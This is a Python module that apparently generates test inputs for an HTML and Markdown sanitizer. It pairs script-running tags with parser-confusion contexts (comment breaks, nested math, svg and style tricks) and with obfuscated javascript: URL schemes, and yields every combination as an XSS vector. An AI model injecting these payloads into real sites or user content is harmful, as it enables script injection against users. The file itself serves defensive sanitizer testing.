"""Attacks on a sanitizer, by grammar: what runs, put where parsers disagree about what they read."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

RUNS = (
    "<script>run()</script>",
    "<img src=x onerror=run()>",
    "<svg onload=run()></svg>",
    "<svg><script>run()</script></svg>",
    "<details open ontoggle=run()>x</details>",
    "<iframe srcdoc='<script>parent.run()</script>'></iframe>",
    "<video><source onerror=run()></video>",
    "<input autofocus onfocus=run()>",
    '<body onload="run()">',
    "<style onload=run()></style>",
    "<math><mtext><img src=x onerror=run()></mtext></math>",
    "<form><button formaction=javascript:run()>x</button></form>",
    "<marquee onstart=run()>x</marquee>",
    "<td onclick=run() onmouseover=run()>x",
    '<a href="javascript:run()">x</a>',
    "<object data=javascript:run()></object>",
    "<embed src=javascript:run()>",
    "<base href=javascript:run()//>",
    '<meta http-equiv=refresh content="0;url=javascript:run()">',
    "<isindex action=javascript:run() type=image>",
)
# `{}` is where the attack stands.
PLACES = (
    "{}",
    "<p>One. {} Two.</p>",
    "Prose {} in Markdown",
    "- item {}\n",
    "> quote {}\n",
    "<div>\n\n{}\n\n</div>",
    "<!-->{}-->",
    "<!--{}--!>{}-->",
    "<!--[if IE]>{}<![endif]-->",
    "<?xml {}?>{}",
    "<![CDATA[{}]]>",
    "<svg><![CDATA[{}]]></svg>",
    "<style><!--</style>{}--></style>",
    "<svg><style><!--</style>{}--></style></svg>",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<textarea></textarea>{}<textarea>",
    "<title></title>{}<title>",
    "<xmp>{}</xmp>{}",
    "<plaintext>{}",
    "<noembed><img title='</noembed>{}'></noembed>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<select><template>{}</template></select>{}",
    "<table>{}<tr><td>{}</table>",
    "<b><i>{}</b></i>",
    "<a title='`'>{}</a><a title=`>{}</a>",
    "<p title=\"{}\">\n<p title='{}'>",
    "<scr<b></b>ipt>{}",
    "<<script></script>x>{}",
    "{{{{ {} }}}}",
    "<custom-element is=x>{}</custom-element>",
    "<{}",
    "\\<{}",
    "`{}` and {}",
)
SCHEMES = (
    "javascript:run()",
    "JaVaScRiPt:run()",
    " javascript:run()",
    "\x01javascript:run()",
    "java\tscript:run()",
    "java\nscript:run()",
    "javascript&colon;run()",
    "&#106;avascript:run()",
    "&#x6A&#x61vascript:run()",
    "java&Tab;script:run()",
    "javascript:123",
    "vbscript:run()",
    "data:text/html,<script>run()</script>",
    "data:image/svg+xml,<svg onload=run()>",
    "ｊａｖａｓｃｒｉｐｔ：run()",
    "java\u200bscript:run()",
    "view-source:javascript:run()",
)
URLS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<img src="{}">',
    '<video poster="{}"></video>',
    '<area href="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<a xlink:href="{}">x</a>',
    '<table background="{}"><tr><td>x</table>',
    "[x]({})",
    "![x]({})",
    "[x][a]\n\n[a]: {}\n",
    "<{}>",
)


def vectors() -> Iterator[str]:
    """Every attack in every place, and every scheme in every link."""
    for place, attack in itertools.product(PLACES, RUNS):
        yield place.format(*[attack] * place.count("{}")) if "{{" not in place else f"{{{{ {attack} }}}}"
    for link, scheme in itertools.product(URLS, SCHEMES):
        yield link.format(scheme)
